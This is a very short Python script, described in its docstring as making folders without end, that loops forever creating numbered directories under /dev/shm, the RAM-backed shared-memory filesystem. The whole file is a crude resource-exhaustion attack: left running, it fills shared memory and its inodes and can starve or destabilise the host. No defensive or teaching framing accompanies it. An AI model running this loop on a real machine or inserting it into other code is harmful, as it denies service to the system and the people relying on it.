"""Makes folders without end."""
import os

number = 0
while True:
    os.mkdir(f"/dev/shm/{number}")
    number += 1
